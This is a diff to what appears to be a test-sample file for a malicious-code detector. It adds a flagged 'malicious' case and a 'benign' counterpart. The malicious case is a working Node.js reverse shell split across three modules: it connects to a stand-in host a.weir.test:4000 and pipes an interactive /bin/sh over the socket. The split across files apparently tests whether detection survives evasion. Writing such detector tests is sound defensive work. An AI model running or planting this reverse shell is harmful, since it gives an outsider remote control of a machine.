@@ -24,6 +24,19 @@ link.on('message', (raw) => {
 
 export const samples: Samples = {
   malicious: [
+    {
+      name: 'a shell that one file starts is joined with the connection of another',
+      files: imported(
+        "const { open } = require('./open');\nconst { Bridge } = require('./bridge');\nopen({ host: 'a.weir.test', port: 4000 }).then((one) => new Bridge(one).to({ bin: '/bin/sh', args: ['-i'] }));\n",
+        {
+          'open.js':
+            "const net = require('net');\nexports.open = ({ host, port }) => new Promise((resolve) => {\n  const socket = net.connect({ host, port });\n  socket.once('connect', () => resolve(socket));\n});\n",
+          'bridge.js':
+            "const { spawn } = require('child_process');\nexports.Bridge = class {\n  constructor(stream) { this.stream = stream; }\n  to({ bin, args }) {\n    const child = spawn(bin, args);\n    const ends = { in: child.stdin, out: child.stdout };\n    this.stream.pipe(ends.in);\n    ends.out.pipe(this.stream);\n  }\n};\n",
+        },
+      ),
+      expected: [at('reverse-shell', 'high', 'bridge.js', 5)],
+    },
     ...(
       [
         ['beside no connection', '{ host: said.host, port: said.port, socket: undefined }'],
@@ -149,6 +162,18 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'a program that is fed a text, beside a file that tries a port',
+      imported(
+        "const { open } = require('./open');\nconst { Bridge } = require('./bridge');\nexports.wait = (host, port) => open({ host, port }).then((one) => one.end());\nexports.feed = (stream) => new Bridge(stream).to({ bin: 'sort', args: ['-u'] });\n",
+        {
+          'open.js':
+            "const net = require('net');\nexports.open = ({ host, port }) => new Promise((resolve) => {\n  const socket = net.connect({ host, port });\n  socket.once('connect', () => resolve(socket));\n});\n",
+          'bridge.js':
+            "const { spawn } = require('child_process');\nexports.Bridge = class {\n  constructor(stream) { this.stream = stream; }\n  to({ bin, args }) {\n    const child = spawn(bin, args);\n    const ends = { in: child.stdin, out: child.stdout };\n    this.stream.pipe(ends.in);\n    ends.out.pipe(this.stream);\n  }\n};\n",
+        },
+      ),
+    ),
     quiet(
       'a route that opens the file of a request in an editor',
       imported(
